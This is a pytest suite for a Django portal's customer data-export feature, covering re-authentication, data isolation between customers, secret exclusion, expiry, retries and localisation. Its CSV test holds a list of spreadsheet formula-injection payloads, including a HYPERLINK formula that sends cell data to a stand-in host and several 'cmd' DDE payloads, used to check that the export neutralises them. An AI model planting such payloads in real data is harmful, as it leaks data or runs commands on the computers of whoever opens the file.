import csv
import io
import json
import zipfile
from datetime import timedelta
from typing import Any, cast

import jsonschema
import pytest
from allauth.mfa.totp.internal.auth import TOTP
from django.core.files.storage import storages
from django.core.management import call_command
from django.db.models import Field
from django.utils import timezone

from accounts.demo import DEMO_OFFICER_TOTP_SECRET
from portal.celery import app as celery_app
from privacy import services
from privacy.exporting import SCHEMA_PATH, csv_file_names
from privacy.models import AuditEvent, ExportArchive, OutboundEmail, PrivacyRequest
from privacy.registry import registry
from privacy.selectors import personal_data_inventory
from privacy.tasks import build_export, expire_exports, sweep_stuck_requests
from tests.conftest import make_customer, sign_in_recently
from tests.factories import AIInferenceFactory, ConversationFactory, MessageFactory, give_history


@pytest.fixture
def recent_alice(client, alice):
    sign_in_recently(client, alice.email)
    return client


def request_export(client, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/requests/export/")
    return response


def archive_of(request: PrivacyRequest) -> zipfile.ZipFile:
    with storages["exports"].open(request.archive.storage_name, "rb") as stored:
        return zipfile.ZipFile(io.BytesIO(stored.read()))


@pytest.fixture
def alices_export(recent_alice, alice, bob, django_capture_on_commit_callbacks):
    give_history(alice, marker="ALICE-MARK")
    give_history(bob, marker="BOB-MARK")
    TOTP.activate(alice, DEMO_OFFICER_TOTP_SECRET)
    response = request_export(recent_alice, django_capture_on_commit_callbacks)
    export = PrivacyRequest.objects.get(user=alice)
    assert response["Location"] == f"/requests/{export.pk}/"
    return export


def test_asking_for_an_export_requires_reauthentication(alice_client):
    response = alice_client.post("/requests/export/")
    assert response["Location"].startswith("/accounts/reauthenticate/")
    assert not PrivacyRequest.objects.exists()


def test_downloading_the_archive_asks_for_recent_re_authentication_like_asking_for_it(
    client_factory, alices_export, alice
):
    # Signed in long ago (no recent proof): an unlocked laptop must not hand the archive out.
    stale = client_factory()
    stale.force_login(alice)
    response = stale.get(f"/requests/{alices_export.pk}/download/")
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/reauthenticate/")


def test_anonymous_visitors_are_sent_to_sign_in(client, alices_export):
    client.logout()
    for path in [f"/requests/{alices_export.pk}/", f"/requests/{alices_export.pk}/download/", "/requests/"]:
        assert client.get(path)["Location"].startswith("/accounts/login/")


def test_an_export_is_built_stored_and_the_customer_e_mailed(alices_export, alice, mailoutbox):
    alices_export.refresh_from_db()
    assert alices_export.status == "completed"
    assert (alices_export.progress_done, alices_export.progress_total) == (len(registry.sources),) * 2
    archive = alices_export.archive
    assert storages["exports"].exists(archive.storage_name)
    assert archive.expires_at - archive.created_at > timedelta(days=6, hours=23)
    ready = [m for m in mailoutbox if "ready to download" in m.subject]
    assert len(ready) == 1 and ready[0].to == [alice.email]
    assert f"/requests/{alices_export.pk}/" in ready[0].body
    assert "download" not in ready[0].body.split("/requests/")[1].split()[0]  # a page, never a file link or token
    assert alices_export.due_at - alices_export.submitted_at == timedelta(days=30)


def test_the_archive_holds_every_declared_value_of_alices_and_nothing_of_bobs(alices_export, alice, bob):
    alices_export.refresh_from_db()
    files = archive_of(alices_export)
    assert {"data.json", "index.html", "README.txt", "data.schema.json"} <= set(files.namelist())
    data = json.loads(files.read("data.json"))
    expected = personal_data_inventory(user=alice)
    exported = {s["source"]: s for s in data["sources"]}
    assert set(exported) == {source.key for source in registry.sources}
    for source_data in expected["sources"]:
        source = registry.source(source_data["source"])
        rows = exported[source.key]["rows"]
        # Compare every declared field of every row (the archive's own row is
        # in progress while it is built, so its status/size differ).
        if source.key in ("privacy.privacyrequest", "privacy.exportarchive", "privacy.outboundemail"):
            continue
        assert len(rows) == len(source_data["rows"]), source.key
        for got, want in zip(rows, source_data["rows"], strict=True):
            assert got == want, source.key
    everything = b"".join(files.read(name) for name in files.namelist()).decode()
    # An oracle independent of the exporter: every declared text value of
    # Alice's, read straight through the ORM, is in data.json.
    data_text = files.read("data.json").decode()
    for source in registry.sources:
        if source.key in ("privacy.privacyrequest", "privacy.exportarchive", "privacy.outboundemail"):
            continue  # written while (and after) the archive is built
        text_fields = [
            f.name
            for f in source.fields
            if source.model._meta.get_field(f.name).get_internal_type() in ("CharField", "TextField")
            and not cast("Field[Any, Any]", source.model._meta.get_field(f.name)).choices  # a Char/TextField
        ]
        for values in source.rows_for(alice).values_list(*text_fields) if text_fields else []:
            for value in values:
                if value:
                    assert json.dumps(value)[1:-1] in data_text, (source.key, value)
    assert "ALICE-MARK" in everything
    assert "BOB-MARK" not in everything and bob.email not in everything and str(bob.public_id) not in everything


def test_no_secret_is_ever_exported(alices_export, alice, client):
    alices_export.refresh_from_db()
    files = archive_of(alices_export)
    everything = b"".join(files.read(name) for name in files.namelist()).decode()
    alice.refresh_from_db()
    from allauth.mfa.models import Authenticator

    totp = Authenticator.objects.get(user=alice, type="totp")
    for secret in [alice.password, DEMO_OFFICER_TOTP_SECRET, str(totp.data["secret"]), client.session.session_key]:
        assert secret not in everything


def test_ai_derived_values_carry_their_ai_system_and_confidence(alices_export):
    alices_export.refresh_from_db()
    data = json.loads(archive_of(alices_export).read("data.json"))
    inferences = next(s for s in data["sources"] if s["source"] == "interactions.aiinference")
    assert next(f for f in inferences["fields"] if f["name"] == "value")["derived_by_ai"] is True
    assert all(row["value__ai_system"] and row["value__confidence"] == 0.73 for row in inferences["rows"])


def test_data_json_validates_against_its_documented_schema(alices_export):
    alices_export.refresh_from_db()
    files = archive_of(alices_export)
    schema = json.loads(SCHEMA_PATH.read_text())
    assert json.loads(files.read("data.schema.json")) == schema
    jsonschema.validate(json.loads(files.read("data.json")), schema)


def test_each_kind_alice_has_a_csv_and_the_html_report_loads_nothing_from_elsewhere(alices_export, alice):
    alices_export.refresh_from_db()
    files = archive_of(alices_export)
    names = csv_file_names(registry.sources)
    for source in registry.sources:
        if source.key in ("privacy.exportarchive", "privacy.outboundemail"):
            continue  # written after the archive is built
        if not source.rows_for(alice).exists():
            assert names[source.key] not in files.namelist(), source.key  # no empty tables
            continue
        header = next(csv.reader(io.TextIOWrapper(files.open(names[source.key]), encoding="utf-8")))
        # Every declared field by its label, in order; an AI-derived one is followed by its AI system (and confidence).
        labels = [source.field_label(f) for f in source.fields]
        assert [column for column in header if column in labels] == labels, source.key
    page = files.read("index.html").decode()
    assert "ALICE-MARK" in page and "What our AI concluded about you" in page
    assert "http://" not in page and "https://" not in page and " src=" not in page
    assert "data.json" in files.read("README.txt").decode()


def csv_table(files: zipfile.ZipFile, source_key: str) -> list[dict[str, str]]:
    """A CSV of the archive read as a spreadsheet program would: by the csv module, cell by cell."""
    with files.open(csv_file_names(registry.sources)[source_key]) as raw:
        return list(csv.DictReader(io.TextIOWrapper(raw, encoding="utf-8", newline="")))


# Every leading character OWASP's CSV-injection rule names, each as an attack would use it.
FORMULAS = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised_and_the_json_keeps_them_as_they_are(
    recent_alice, alice, bob, django_capture_on_commit_callbacks
):
    conversation = ConversationFactory.create(customer=alice, subject="=1+1")
    for body in [*FORMULAS, "-5", "Hello = world, mail me @ home", "5 + 3"]:
        MessageFactory.create(conversation=conversation, body=body)
    AIInferenceFactory.create(customer=alice, conversation=conversation, confidence=0.73)
    alice.phone = "+442079460011"
    alice.save(update_fields=["phone"])
    MessageFactory.create(conversation=ConversationFactory.create(customer=bob), body="=BOB()")
    request_export(recent_alice, django_capture_on_commit_callbacks)
    files = archive_of(PrivacyRequest.objects.get(user=alice, kind="export"))

    bodies = [row["Message"] for row in csv_table(files, "interactions.message")]
    for formula in FORMULAS:
        assert "'" + formula in bodies and formula not in bodies
    # Text that begins with a trigger is text, even when it looks like a number
    # (OWASP: prefix every such cell): "-5" stays readable as '-5, and a phone
    # number keeps its + instead of becoming 4.42E+11. Other text is untouched.
    assert "'-5" in bodies and "Hello = world, mail me @ home" in bodies and "5 + 3" in bodies
    assert "=BOB()" not in bodies and "'=BOB()" not in bodies
    assert [row["Topic"] for row in csv_table(files, "interactions.conversation")] == ["'=1+1"]
    assert [row["Phone number"] for row in csv_table(files, "accounts.user")] == ["'+442079460011"]
    # Numbers the database holds as numbers are written as numbers.
    confidences = {
        row["Conclusion: how sure the AI was (0 to 1)"] for row in csv_table(files, "interactions.aiinference")
    }
    assert confidences == {"0.73"}
    # data.json is data, not a spreadsheet: every value exactly as held.
    data = json.loads(files.read("data.json"))
    messages = next(s for s in data["sources"] if s["source"] == "interactions.message")
    assert {row["body"] for row in messages["rows"]} >= {*FORMULAS, "-5"}
    assert not any(row["body"].startswith("'") for row in messages["rows"])


def test_the_download_is_a_private_attachment_and_is_audited(recent_alice, alices_export, alice):
    response = recent_alice.get(f"/requests/{alices_export.pk}/download/")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="my-data-')
    assert "no-store" in response["Cache-Control"]
    body = b"".join(response.streaming_content)
    assert zipfile.ZipFile(io.BytesIO(body)).testzip() is None
    assert AuditEvent.objects.filter(
        action="export.downloaded", object_id=str(alices_export.pk), actor_id=alice.pk
    ).exists()


def test_bob_gets_404_for_alices_export_page_and_download(client_factory, alices_export, bob):
    client = client_factory()  # Bob's own browser
    sign_in_recently(client, bob.email)  # so the download is not held back for re-authentication
    assert client.get(f"/requests/{alices_export.pk}/").status_code == 404
    assert client.get(f"/requests/{alices_export.pk}/download/").status_code == 404
    assert "Export of your data" not in client.get("/requests/").content.decode()


def test_staff_cannot_download_a_customers_archive(client_factory, alices_export):
    officer = make_customer("officer@example.com", is_staff=True, is_superuser=True)
    client = client_factory()  # the officer's own browser
    sign_in_recently(client, officer.email)
    assert client.get(f"/requests/{alices_export.pk}/download/").status_code == 404


def test_only_one_open_export_at_a_time(recent_alice, alice, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=False):  # queued, not built yet
        recent_alice.post("/requests/export/")
    response = recent_alice.post("/requests/export/", follow=True)
    assert "You already have an export on its way" in response.content.decode()
    assert PrivacyRequest.objects.filter(user=alice).count() == 1


def test_the_minimum_interval_says_when_the_next_export_is_possible(
    recent_alice, alice, django_capture_on_commit_callbacks, settings
):
    request_export(recent_alice, django_capture_on_commit_callbacks)
    response = recent_alice.post("/requests/export/", follow=True)
    assert "You can ask for a new export from" in response.content.decode()
    assert PrivacyRequest.objects.filter(user=alice).count() == 1
    PrivacyRequest.objects.update(submitted_at=timezone.now() - timedelta(hours=25))
    request_export(recent_alice, django_capture_on_commit_callbacks)
    assert PrivacyRequest.objects.filter(user=alice).count() == 2


def test_the_request_page_shows_progress_and_polls_only_while_in_progress(recent_alice, alice):
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(build_export, "delay", lambda *a: None)
        services.export_request_create(user=alice)
    export = PrivacyRequest.objects.get()
    page = recent_alice.get(f"/requests/{export.pk}/").content.decode()
    assert "Queued" in page and 'hx-trigger="every 2s"' in page
    PrivacyRequest.objects.update(status="processing", progress_done=3, progress_total=10)
    fragment = recent_alice.get(f"/requests/{export.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert "3 of 10 kinds of data done" in fragment and "<html" not in fragment


def test_a_ready_page_shows_size_and_expiry_and_stops_polling(recent_alice, alices_export):
    page = recent_alice.get(f"/requests/{alices_export.pk}/").content.decode()
    assert "Ready" in page and "can be downloaded until" in page and "hx-trigger" not in page


def test_expired_archives_are_deleted_and_the_page_says_so(recent_alice, alices_export):
    alices_export.refresh_from_db()
    name = alices_export.archive.storage_name
    ExportArchive.objects.update(expires_at=timezone.now() - timedelta(minutes=1))
    assert expire_exports.delay().get() == 1
    assert not storages["exports"].exists(name)
    alices_export.refresh_from_db()
    assert alices_export.status == "expired"
    assert "Expired" in recent_alice.get(f"/requests/{alices_export.pk}/").content.decode()
    response = recent_alice.get(f"/requests/{alices_export.pk}/download/")
    assert response.status_code == 410 and "This archive has expired" in response.content.decode()


def test_a_past_due_archive_not_yet_swept_answers_a_clear_expired_page(recent_alice, alices_export):
    ExportArchive.objects.update(expires_at=timezone.now() - timedelta(minutes=1))
    response = recent_alice.get(f"/requests/{alices_export.pk}/download/")
    assert response.status_code == 410
    assert "This archive has expired" in response.content.decode()


def test_a_second_delivery_of_the_task_builds_nothing_more(alice, mailoutbox, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        export = services.export_request_create(user=alice)
    build_export.apply(args=(export.pk,))
    assert ExportArchive.objects.count() == 1
    assert len([m for m in mailoutbox if "ready" in m.subject]) == 1


def test_a_failure_tells_the_customer_alerts_staff_and_leaves_no_file(
    alice, monkeypatch, mailoutbox, django_capture_on_commit_callbacks
):
    def broken(**kwargs):
        raise RuntimeError("/secret/path alice@example.com")

    monkeypatch.setattr("privacy.services.exports.build_archive", broken)
    monkeypatch.setitem(celery_app.conf, "task_eager_propagates", False)
    with django_capture_on_commit_callbacks(execute=True):
        export = services.export_request_create(user=alice)
    export.refresh_from_db()
    assert export.status == "failed"
    assert "Our privacy team has been told" in export.failure_reason
    assert export.failure_detail == "RuntimeError"
    assert not ExportArchive.objects.exists() and not storages["exports"].exists(f"exports/request-{export.pk}.zip")
    assert any(m.to == ["privacy-team@localhost"] and "failed" in m.subject for m in mailoutbox)
    assert any(m.to == [alice.email] and "could not build" in m.subject for m in mailoutbox)
    assert "alice@example.com" not in str(list(AuditEvent.objects.values_list("details", flat=True)))


def test_a_storage_error_is_retried_and_the_export_completes(alice, monkeypatch, django_capture_on_commit_callbacks):
    storage = storages["exports"]
    real_save, calls = storage.save, {"n": 0}

    def flaky_save(*args, **kwargs):
        calls["n"] += 1
        if calls["n"] == 1:
            raise OSError("disk briefly unavailable")
        return real_save(*args, **kwargs)

    monkeypatch.setattr(storage, "save", flaky_save)
    monkeypatch.setitem(celery_app.conf, "task_eager_propagates", False)
    with django_capture_on_commit_callbacks(execute=True):
        export = services.export_request_create(user=alice)
    export.refresh_from_db()
    assert export.status == "completed" and export.attempts == 2
    assert ExportArchive.objects.count() == 1


def test_the_sweeper_republishes_an_export_whose_message_was_lost(alice, monkeypatch):
    monkeypatch.setattr(build_export, "delay", lambda *a: None)  # the broker lost it
    export = services.export_request_create(user=alice)
    monkeypatch.undo()
    PrivacyRequest.objects.update(heartbeat_at=timezone.now() - timedelta(minutes=10))
    assert sweep_stuck_requests.delay().get() == 1
    export.refresh_from_db()
    assert export.status == "completed"


def test_the_sweeper_takes_back_an_export_whose_worker_died(alice, monkeypatch):
    monkeypatch.setattr(build_export, "delay", lambda *a: None)
    export = services.export_request_create(user=alice)
    services.export_claim(request_id=export.pk, task_id="dead-worker-task")
    monkeypatch.undo()
    PrivacyRequest.objects.update(heartbeat_at=timezone.now() - timedelta(hours=1))
    sweep_stuck_requests.delay()
    export.refresh_from_db()
    assert export.status == "completed" and ExportArchive.objects.count() == 1


def test_the_cli_builds_an_export_now(alice, capsys):
    call_command("privacy", "export", alice.email, "--now")
    export = PrivacyRequest.objects.get(user=alice)
    assert export.status == "completed" and export.archive.size > 0
    assert f"Export request #{export.pk} built" in capsys.readouterr().out


def test_every_state_change_is_in_the_audit_trail(alices_export):
    actions = list(AuditEvent.objects.filter(object_id=str(alices_export.pk)).values_list("action", flat=True))
    assert actions[:3] == ["request.submitted", "request.processing", "request.completed"]
    assert OutboundEmail.objects.filter(template="privacy/email/request_received").exists()


def test_a_task_the_sweeper_replaced_can_neither_complete_nor_fail_its_successors_job(alice, monkeypatch):
    monkeypatch.setattr(build_export, "delay", lambda *a: None)
    export = services.export_request_create(user=alice)
    old = services.export_claim(request_id=export.pk, task_id="old")
    assert old is not None
    PrivacyRequest.objects.filter(pk=export.pk).update(status="approved", claimed_by_task="")  # the sweeper
    services.export_claim(request_id=export.pk, task_id="new")
    with pytest.raises(services.IllegalTransition):
        services.export_build(request=old)
    services.export_fail(request_id=export.pk, error_name="IllegalTransition", task_id="old")
    export.refresh_from_db()
    assert (export.status, export.claimed_by_task) == ("processing", "new")


def test_a_german_customer_reads_her_requests_kind_status_and_refusals_in_german(recent_alice, alice, bob):
    alice.preferred_language = "de"
    alice.save(update_fields=["preferred_language"])
    recent_alice.post("/requests/export/")  # queued: its job runs once the transaction commits
    export = PrivacyRequest.objects.get(user=alice)
    # Asked again while it is on its way: refused, in German.
    refused = recent_alice.post("/requests/export/", follow=True).content.decode()
    assert "Ein Export ist bereits unterwegs." in refused
    listed = recent_alice.get("/requests/").content.decode()
    assert "Export Ihrer Daten" in listed and "In der Warteschlange" in listed
    assert "Export of your data" not in listed and "Queued" not in listed
    # Once it is done: from when another may be asked for, with a German date.
    PrivacyRequest.objects.filter(pk=export.pk).update(status=PrivacyRequest.Status.COMPLETED)
    refused = recent_alice.post("/requests/export/", follow=True).content.decode()
    assert "Sie können ab dem " in refused and "einen neuen Export anfordern (ein Export alle " in refused
    assert "Abgeschlossen" in recent_alice.get("/requests/").content.decode()
    assert not PrivacyRequest.objects.filter(user=bob).exists()


# --- What a build costs: progress as often as a person can see it, nothing for kinds held nothing of -----


def build_claimed_export(customer, monkeypatch, *, clock_stands_still=True) -> tuple[PrivacyRequest, list[str]]:
    """An export of `customer` built in this process; its request and every SQL statement the build ran.

    The build's clock stands still unless told otherwise: on a busy machine a build can take longer
    than the progress interval, and the statements counted must not depend on that.
    """
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    if clock_stands_still:
        monkeypatch.setattr("privacy.services.exports.time.monotonic", lambda: 0.0)
    monkeypatch.setattr(build_export, "delay", lambda *args: None)
    export = services.export_request_create(user=customer)
    claimed = services.export_claim(request_id=export.pk, task_id="t")
    assert claimed is not None
    with CaptureQueriesContext(connection) as queries:
        services.export_build(request=claimed)
    export.refresh_from_db()
    assert export.status == "completed"
    return export, [query["sql"] for query in queries.captured_queries]


def progress_writes(statements: list[str]) -> list[str]:
    return [sql for sql in statements if sql.startswith("UPDATE") and '"progress_done"' in sql]


def test_a_quick_build_writes_its_progress_at_its_start_and_end_not_once_per_kind_of_data(alice, bob, monkeypatch):
    give_history(alice, marker="ALICE-MARK")
    give_history(bob, marker="BOB-MARK")
    export, statements = build_claimed_export(alice, monkeypatch)
    assert len(progress_writes(statements)) == 2
    assert (export.progress_done, export.progress_total) == (len(registry.sources),) * 2
    assert "ALICE-MARK" in archive_of(export).read("data.json").decode()
    assert "BOB-MARK" not in archive_of(export).read("data.json").decode()


def test_a_slow_build_shows_its_progress_kind_by_kind(alice, monkeypatch):
    # Each kind of data takes a second here: the request page sees every one of them done.
    clock = iter(range(1_000_000))
    monkeypatch.setattr("privacy.services.exports.time.monotonic", lambda: float(next(clock)))
    give_history(alice, marker="ALICE-MARK")
    _, statements = build_claimed_export(alice, monkeypatch, clock_stands_still=False)
    done = [int(sql.split('"progress_done" = ')[1].split(",")[0]) for sql in progress_writes(statements)]
    assert done == list(range(len(registry.sources) + 1))


def test_kinds_of_data_alice_holds_nothing_of_cost_her_export_no_query(alice, monkeypatch):
    import dataclasses

    give_history(alice, marker="ALICE-MARK")
    build_claimed_export(alice, monkeypatch)  # what a process reads once (the active purposes) is read now
    PrivacyRequest.objects.all().delete()
    _, before = build_claimed_export(alice, monkeypatch)
    nothing = next(s for s in registry.sources if s.in_force is None and not s.rows_for(alice).exists())
    for number in range(10):
        monkeypatch.setitem(registry._sources, f"more-{number}", dataclasses.replace(nothing))
    PrivacyRequest.objects.all().delete()
    _, after = build_claimed_export(alice, monkeypatch)
    assert len(after) == len(before)
